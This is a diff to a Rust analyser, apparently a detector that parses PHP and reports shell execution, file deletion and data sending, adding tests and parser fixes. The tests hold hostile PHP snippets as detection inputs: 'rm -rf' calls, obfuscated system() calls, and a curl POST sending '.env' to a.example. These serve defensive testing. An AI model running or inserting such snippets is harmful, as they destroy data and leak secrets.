@@ -80,9 +80,18 @@ fn statement_within(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
         "class_declaration" | "trait_declaration" | "enum_declaration" => {
             vec![Stmt::Class(class(reader, node))]
         }
-        "interface_declaration" | "php_tag" | "php_end_tag" | "text" | "comment" | "goto_statement"
-        | "named_label_statement" | "empty_statement" | "break_statement" | "continue_statement"
-        | "text_interpolation" | "unset_statement" => Vec::new(),
+        "interface_declaration"
+        | "php_tag"
+        | "php_end_tag"
+        | "text"
+        | "comment"
+        | "goto_statement"
+        | "named_label_statement"
+        | "empty_statement"
+        | "break_statement"
+        | "continue_statement"
+        | "text_interpolation"
+        | "unset_statement" => Vec::new(),
         "if_statement" => {
             let mut all = vec![Stmt::Do(field(reader, node, "condition"))];
             let mut arms = vec![of_field(reader, node, "body")];
@@ -106,9 +115,7 @@ fn statement_within(reader: &mut Reader<'_>, node: Node<'_>) -> Vec<Stmt> {
                 .map(|part| Stmt::Do(expression(reader, part)))
                 .collect();
             let mut body: Vec<Stmt> = Vec::new();
-            body.extend(
-                fields(node, "condition").into_iter().map(|part| Stmt::Do(expression(reader, part))),
-            );
+            body.extend(fields(node, "condition").into_iter().map(|part| Stmt::Do(expression(reader, part))));
             for part in fields(node, "body") {
                 body.extend(part_of(reader, part));
             }
@@ -521,6 +528,8 @@ fn called(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
 fn scope(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
     match node.kind() {
         "relative_scope" => name(SELF),
+        // `new static`
+        "name" if matches!(reader.of(node), "static" | "self") => name(SELF),
         "name" | "qualified_name" | "relative_name" => name(short(reader.of(node))),
         _ => expression(reader, node),
     }
@@ -544,7 +553,9 @@ fn expression_within(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
         "heredoc" => heredoc(reader, node),
         "nowdoc" => heredoc(reader, node),
         "shell_command_expression" => Expr::Command(Box::new(joined(parts(reader, node, 0)))),
-        "function_call_expression" | "member_call_expression" | "nullsafe_member_call_expression"
+        "function_call_expression"
+        | "member_call_expression"
+        | "nullsafe_member_call_expression"
         | "scoped_call_expression" => called(reader, node),
         "object_creation_expression" => created(reader, node),
         "member_access_expression" | "nullsafe_member_access_expression" => {
@@ -555,7 +566,8 @@ fn expression_within(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
             }
         }
         "scoped_property_access_expression" => {
-            let object = node.child_by_field_name("scope").map_or_else(unknown, |object| scope(reader, object));
+            let object =
+                node.child_by_field_name("scope").map_or_else(unknown, |object| scope(reader, object));
             Expr::Member(Box::new(object), reader.field(node, "name").unwrap_or_default().to_owned())
         }
         "class_constant_access_expression" => match named(node).as_slice() {
@@ -604,15 +616,14 @@ fn expression_within(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
             let value = match operator.as_str() {
                 ".=" => Expr::Joined(vec![before, value]),
                 "??=" => Expr::Either(vec![before, value]),
-                other => {
-                    Expr::Binary(other.chars().next().unwrap_or('?'), Box::new(before), Box::new(value))
-                }
+                other => Expr::Binary(other.chars().next().unwrap_or('?'), Box::new(before), Box::new(value)),
             };
             Expr::Block(assigned(reader, left, value))
         }
         "binary_expression" => binary(reader, node),
         "unary_op_expression" => {
-            match (reader.field(node, "operator"), named(node).last().map(|inner| expression(reader, *inner))) {
+            match (reader.field(node, "operator"), named(node).last().map(|inner| expression(reader, *inner)))
+            {
                 (Some("-"), Some(Expr::Number(number))) => Expr::Number(number.wrapping_neg()),
                 (Some("~"), Some(inner)) => call("~", vec![inner]),
                 (_, inner) => Expr::Opaque(inner.into_iter().collect()),
@@ -643,7 +654,9 @@ fn expression_within(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
         }
         "array_creation_expression" => array(reader, node),
         "anonymous_function" | "arrow_function" => Expr::Function(function(reader, node)),
-        "include_expression" | "include_once_expression" | "require_expression"
+        "include_expression"
+        | "include_once_expression"
+        | "require_expression"
         | "require_once_expression" => {
             let own = node.kind().trim_end_matches("_expression");
             call(own, vec![first(reader, node)])
@@ -654,8 +667,13 @@ fn expression_within(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
             let value = field(reader, node, "value");
             if kind.contains("int") { call("intval", vec![value]) } else { value }
         }
-        "parenthesized_expression" | "error_suppression_expression" | "by_ref" | "clone_expression"
-        | "variadic_unpacking" | "argument" | "throw_expression" => first(reader, node),
+        "parenthesized_expression"
+        | "error_suppression_expression"
+        | "by_ref"
+        | "clone_expression"
+        | "variadic_unpacking"
+        | "argument"
+        | "throw_expression" => first(reader, node),
         "yield_expression" => {
             let value = first(reader, node);
             Expr::Block(vec![Stmt::Return(Some(Expr::List(vec![value])))])
@@ -795,10 +813,8 @@ fn parts(reader: &mut Reader<'_>, node: Node<'_>, indent: usize) -> Vec<Expr> {
             "escape_sequence" => value.push_str(&escape(reader.of(child))),
             "string_content" | "nowdoc_string" => {
                 let own = reader.of(child);
-                let starts_line = reader
-                    .text
-                    .get(..child.start_byte())
-                    .is_some_and(|before| before.ends_with('\n'));
+                let starts_line =
+                    reader.text.get(..child.start_byte()).is_some_and(|before| before.ends_with('\n'));
                 for (at, line) in own.split_inclusive('\n').enumerate() {
                     let spaces = line.len() - line.trim_start_matches([' ', '\t']).len();
                     let gone = if at > 0 || starts_line { spaces.min(indent) } else { 0 };
@@ -828,5 +844,165 @@ fn heredoc(reader: &mut Reader<'_>, node: Node<'_>) -> Expr {
     match node.child_by_field_name("value") {
         Some(body) => joined(parts(reader, body, indent)),
         None => text(""),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::check;
+
+    #[test]
+    fn calls() {
+        check(
+            "php",
+            &[
+                ("echo 1;", "read-only"),
+                ("system('rm x');", "sh rm x"),
+                ("<?php SYSTEM('rm x');", "sh rm x"),
+                ("<?php \\exec('rm x', $out, $code);", "sh rm x"),
+                ("<?php echo `rm x`;", "sh rm x"),
+                ("<p><?= `rm $x` ?></p>", "sh rm …"),
+                ("<?php proc_open(['rm', 'x'], [], $p);", "argv rm x"),
+                ("<?php pcntl_exec('/bin/rm', ['-rf', 'x']);", "argv /bin/rm -rf x"),
+                ("<?php $f = 'sys' . 'tem'; $f('x');", "obfuscated; sh x"),
+                ("<?php ('sys' . 'tem')('x');", "obfuscated; sh x"),
+                ("<?php $f = 'str' . 'rev'; echo $f('x');", "code.snippet"),
+                ("<?php array_map('shell_exec', ['x', 'y']);", "sh x; sh y"),
+                ("<?php call_user_func(strrev('metsys'), 'x');", "obfuscated; sh x"),
+                ("<?php call_user_func_array('system', ['x']);", "sh x"),
+                ("<?php $s = system(...); $s('x');", "sh x"),
+                ("<?php (new ReflectionFunction('system'))->invoke('x');", "obfuscated; sh x"),
+                ("<?php eval('system(1);');", "php system(1);"),
+                ("<?php $_GET['f']('x');", "obfuscated"),
+                ("<?php assert(1 === 1);", "code.snippet"),
+                ("<?php preg_replace('/x/e', 'system(1)', 'x');", "php system(1)"),
+            ],
+        );
+    }
+
+    #[test]
+    fn values() {
+        check(
+            "php",
+            &[
+                ("<?php $a = 'x'; system(\"rm {$a} $a[0]\");", "sh rm x x"),
+                ("<?php $a = <<<E\n  rm $b\n  x\n  E; system($a);", "sh rm …\nx"),
+                ("<?php $a = ['k' => 'x']; foreach ($a as $k => $v) system($v . $k);", "sh xk"),
+                ("<?php $a = []; $a[] = 'r'; $a[] = 'm'; system(implode('', $a));", "sh rm"),
+                ("<?php extract(['c' => 'x']); system($c);", "sh x"),
+                ("<?php $n = 'c'; $$n = 'x'; system($c);", "sh x"),
+                ("<?php system(sprintf('%s -%02d', 'x', 3));", "sh x -3"),
+                ("<?php system(match ($y) { 1 => 'a', default => 'b' });", "sh a; sh b"),
+                ("<?php system($y ?? 'b');", "sh …; sh b"),
+                ("<?php ['k' => $c] = ['k' => 'x']; system($c);", "sh x"),
+                ("<?php const A = 'x'; define('B', 'y'); system(A . B);", "sh xy"),
+                ("<?php function f() { global $g; system($g); } $g = 'x'; f();", "sh x"),
+                ("<?php system(implode(array_map('chr', [114, 109])));", "obfuscated; sh rm"),
+            ],
+        );
+    }
+
+    #[test]
+    fn functions_and_classes() {
+        check(
+            "php",
+            &[
+                ("<?php $p = 'x'; $g = function () use ($p) { system($p); }; $g();", "sh x"),
+                ("<?php (fn($c) => system($c))('x');", "sh x"),
+                (
+                    "<?php class A { function __construct(private string $d = 'x') {} function go() { system($this->d); } } (new A)->go();",
+                    "sh x",
+                ),
+                (
+                    "<?php class B { function go() { system($this->c()); } } class C extends B { function c() { return 'x'; } } (new C)->go();",
+                    "sh x",
+                ),
+                (
+                    "<?php class B { function __construct($c) { $this->c = $c; } } class C extends B { function __construct() { parent::__construct('x'); } function go() { system($this->c); } } (new C)->go();",
+                    "sh x",
+                ),
+                (
+                    "<?php class A { static $c = 'x'; static function go() { system(self::$c); } } A::go();",
+                    "sh x",
+                ),
+                (
+                    "<?php trait T { function go($c) { system($c); } } class U { use T; } (new U)->go('x');",
+                    "sh x",
+                ),
+                (
+                    "<?php class F { static function __callStatic($n, $a) { return $n(...$a); } } F::system('x');",
+                    "obfuscated; sh x",
+                ),
+                (
+                    "<?php class F { function __call($n, $a) { return $this; } } (new F)->system('x');",
+                    "code.snippet",
+                ),
+                ("<?php enum C: string { case W = 'x'; } system(C::W->value);", "sh x"),
+                (
+                    "<?php class R { function unlink($x) { return $x; } } (new R)->unlink('/');",
+                    "code.snippet",
+                ),
+                ("<?php [new class { function go($c) { system($c); } }, 'go']('x');", "sh x"),
+            ],
+        );
+    }
+
+    #[test]
+    fn files_and_hosts() {
+        check(
+            "php",
+            &[
+                ("<?php unlink('a');", "delete-f a"),
+                ("<?php file_put_contents('a', 'x', FILE_APPEND);", "append a"),
+                ("<?php echo file_get_contents('.env');", "read .env"),
+                ("<?php foreach (glob('a/*') as $f) unlink($f);", "delete-f a/*"),
+                (
+                    "<?php foreach (new DirectoryIterator('a') as $f) unlink($f->getPathname());",
+                    "delete-f a/*",
+                ),
+                ("<?php include __DIR__ . '/x.php';", "read ./x.php; file ./x.php"),
+                (
+                    "<?php $c = curl_init('https://a.example'); curl_setopt($c, CURLOPT_RETURNTRANSFER, true);",
+                    "fetch a.example",
+                ),
+                (
+                    "<?php $c = curl_init('https://a.example'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env'));",
+                    "read .env; fetch a.example; send a.example <.env",
+                ),
+                (
+                    "<?php $x = stream_context_create(['http' => ['method' => 'POST']]); file_get_contents('https://a.example', false, $x);",
+                    "send a.example",
+                ),
+            ],
+        );
+    }
+
+    #[test]
+    fn hostile_texts_end() {
+        let open = |text: &str| text.repeat(if text.len() < 3 { 100_000 } else { 10_000 });
+        let texts = [
+            open("["),
+            open("("),
+            format!("<?php {}", open("{")),
+            format!("<?php {}1{};", open("("), open(")")),
+            format!("<?php {}", open("if (a) ")),
+            format!("<?php {}", open("function a() {")),
+            format!("<?php $a = {}1;", open("1 . ")),
+            format!("<?php $a = {}1;", open("1 + ")),
+            format!("<?php $a{};", open("->b")),
+            format!("<?php {}", open("\"{$a[")),
+            "<?php <<<A\nunclosed {$a".to_owned(),
+            "<?php 'unclosed".to_owned(),
+            "<?php `unclosed".to_owned(),
+            (0..60_000_u32).filter_map(|n| char::from_u32(n.wrapping_mul(2_654_435_761) % 0xd7ff)).collect(),
+        ];
+        for text in texts {
+            let _ = super::super::describe(
+                "php",
+                &text,
+                doorward_core::intent::Span::default(),
+                &crate::programs::Context::default(),
+            );
+        }
     }
 }
